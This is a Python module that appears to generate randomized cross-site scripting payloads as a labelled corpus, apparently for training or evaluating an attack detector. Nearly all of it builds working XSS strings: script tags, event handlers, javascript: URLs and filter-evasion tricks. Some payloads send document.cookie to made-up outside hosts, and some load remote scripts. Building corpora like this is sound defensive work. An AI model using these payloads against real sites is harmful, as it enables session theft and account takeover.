"""Attacks with script and markup: one family a place that the value may land in."""

from __future__ import annotations

import random
from collections.abc import Callable

from weir_models.request_attack.corpus.placing import word

R = random.Random

TAGS = """
    img svg body iframe input video audio details object embed marquee math select textarea button form style link
    meta base a div p b source isindex keygen table td
""".split()
EVENTS = """
    onerror onload onclick onmouseover onfocus ontoggle onstart onmouseenter onpointerover onanimationstart onblur
    onkeydown onpageshow onscroll onwheel ondrag oncopy onbegin onhashchange onauxclick oninput onsubmit
    ontransitionend
""".split()
PROOFS = ("1", "'xss'", "document.domain", "document.cookie", '"x"', "/x/", "origin", "1337", "`1`", "String.fromCharCode(88,83,83)",
    "window.origin", "location")  # fmt: skip


def _call(r: R) -> str:
    name, proof = r.choice(("alert", "prompt", "confirm", "alert", "print", "eval", "console.log")), r.choice(PROOFS)
    return r.choice((f"{name}({proof})", f"{name}({proof})", f"{name}`{r.randint(1, 99)}`", f"window['{name}']({proof})",
        f"({name})({proof})", f"{name}.call(null,{proof})", f"self[`{name}`]({proof})", f"top.{name}({proof})",
        f"[{r.randint(1, 9)}].find({name})", f"eval('{name}({r.randint(1, 9)})')", f"setTimeout('{name}({r.randint(1, 9)})')",
        f"eval(atob('{word(r)}=='))", "document.location='//" + word(r) + ".com/?'+document.cookie",
        f"fetch('//{word(r)}.net?'+document.cookie)", f"new Image().src='http://{word(r)}.com/'+document.cookie",
        f"import('//{word(r)}.js')", f"{name}\\u0028{r.randint(1, 9)})", f"window.onerror={name};throw {r.randint(1, 9)}"))  # fmt: skip


def _mix(r: R, text: str) -> str:
    if r.random() < 0.6:
        return text
    return "".join(c.upper() if r.random() < 0.5 else c.lower() for c in text)


def _break(r: R) -> str:
    return r.choice(("", "", '">', "'>", "\"'>", "</title>", "</textarea>", "-->", "</script>", word(r), '"/>', 'x">', ">", "</style>",
        "'\"><"))  # fmt: skip


def script(r: R) -> str:
    """A script element."""
    inner = r.choice((_call(r), "", f"var x='{word(r)}'", "document.write('<b>')"))
    tag = r.choice(("<script>", f"<script src=//{word(r)}.com/x.js>", f"<script src='http://{word(r)}.net/{word(r)}.js'>",
        "<script type=text/javascript>", "<script\n>", "<script/x>", "<ScRiPt >", "<script x>", "<<script>", "<script/src=data:,alert(1)>",
        "<svg><script>"))  # fmt: skip
    return (
        _break(r)
        + _mix(r, tag)
        + inner
        + r.choice(("</script>", "</script>", "</ScRiPt>", "", "//", "</script\n>", "<!--"))
    )


def handler(r: R) -> str:
    """An element with a handler."""
    space = r.choice((" ", " ", "/", "\t", "\n", "\x0c", "//", " / "))
    attribute = r.choice((" src=x", " src", "", " href=#", " autofocus", " style=x", " src=1", f" id={word(r)}", " open", " width=1",
        "/src"))  # fmt: skip
    quote = r.choice(("", "", '"', "'", "`"))
    equals = r.choice(("=", "=", " = ", "=\n"))
    end = r.choice((">", ">", "/>", "//", "", " x>", "<!--"))
    return f"{_break(r)}<{_mix(r, r.choice(TAGS))}{attribute}{space}{_mix(r, r.choice(EVENTS))}{equals}{quote}{_call(r)}{quote}{end}"


def address(r: R) -> str:
    """A script as an address."""
    scheme = r.choice(("javascript:", "javascript:", "JaVaScRiPt:", "java\tscript:", "java&#10;script:", "jav&#x0A;ascript:",
        "&#106;avascript:", "vbscript:", "javascript&colon;", " javascript:", "javascript://%0a", "data:text/html,<script>",
        "data:text/html;base64,PHNjcmlwdD4", "\\x6aavascript:"))  # fmt: skip
    payload = f"{scheme}{_call(r)}"
    return r.choice((payload, f'<a href="{payload}">x</a>', f"<iframe src='{payload}'>", f"<form action={payload}><input type=submit>",
        f"<object data={payload}>", f"<svg><a xlink:href={payload}>", f"<embed src={payload}>", f'<meta http-equiv=refresh content="0;url={payload}">',
        f"<button formaction={payload}>x", f'<img src="{payload}">', f'<body background="{payload}">', f"<link rel=stylesheet href={payload}>",
        f"<base href={payload}//>", f"<table background={payload}>", f'<iframe srcdoc="<img src=x onerror={_call(r)}>">'))  # fmt: skip


def attribute(r: R) -> str:
    """Out of an attribute into a handler, without a tag of its own."""
    q = r.choice(('"', "'", "`"))
    space = r.choice((" ", "/", "\t", " x "))
    return f"{r.choice((word(r), '', 'x', '1'))}{q}{space}{r.choice(('', 'autofocus ', 'style=x:expression(1) ', 'tabindex=1 '))}{_mix(r, r.choice(EVENTS))}={q if r.random() < 0.6 else ''}{_call(r)}{r.choice(('', q, ' x=' + q, '//', ' '))}"


def in_script(r: R) -> str:
    """Out of a string inside a script."""
    q = r.choice(("'", '"', "`", "\\'", '\\"', "');", '");', "'}", "']", "</script><script>"))
    joint = r.choice(("-", "+", ";", "*", "^", "|", "/", ",", "&&", "||"))
    return f"{r.choice(('', word(r)))}{q}{joint}{_call(r)}{r.choice((joint + q[:1], '//', ';//', '-' + q, ''))}"


def bare_call(r: R) -> str:
    """Calls alone, for places where script is evaluated."""
    return r.choice((_call(r), _call(r) + ";", f"({_call(r)})", f"a=alert,a({r.randint(1, 9)})",
        f"[]['constructor']['constructor']('{_call(r)}')()", f"Function('{_call(r)}')()", f"constructor.constructor('{_call(r)}')()",
        f"top['al'+'ert']({r.randint(1, 9)})", f"eval('al'+'ert({r.randint(1, 9)})')", "document['cookie']", f"__proto__[x]={_call(r)}",
        f"location='javascript:{_call(r)}'", f"alert?.({r.randint(1, 9)})", f"`${{{_call(r)}}}`"))  # fmt: skip


def style(r: R) -> str:
    """Style sheets and old features that run code."""
    return r.choice((f"<style>@import'javascript:{_call(r)}';</style>", f'<div style="width:expression({_call(r)})">',
        f'<xss style="behavior:url({word(r)}.htc)">', f'<div style="-moz-binding:url(//{word(r)}.xml#x)">',
        f"<style>*{{background:url('javascript:{_call(r)}')}}</style>", f"<img dynsrc='javascript:{_call(r)}'>",
        f"<xml id=x><i><b><img src=javascript:{_call(r)}></b></i></xml>", "<?import namespace=t implementation=#default#time2>",
        f"<math><mtext><table><mglyph><style><img src=x onerror={_call(r)}>",
        f"<animate attributeName=href values=javascript:{_call(r)} />", "<div datasrc=#x dataformatas=html>", f"<layer src=//{word(r)}.js>",
        f"<bgsound src=javascript:{_call(r)}>", f"exp/*<a style='no\\xss:noxss(\"*//*\");xss:ex/*XSS*//*/*/pression({_call(r)})'>"))  # fmt: skip


FAMILIES: tuple[tuple[str, str, str, float, Callable[[R], str]], ...] = (
    ("xss", "script", "fit", 1.5, script), ("xss", "handler", "fit", 2.0, handler), ("xss", "address", "evaluate", 1.2, address), ("xss", "attribute", "fit", 1.2, attribute), ("xss", "in_script", "evaluate", 1.0, in_script), ("xss", "bare_call", "fit", 1.0, bare_call), ("xss", "style", "calibrate", 0.8, style),
)  # fmt: skip
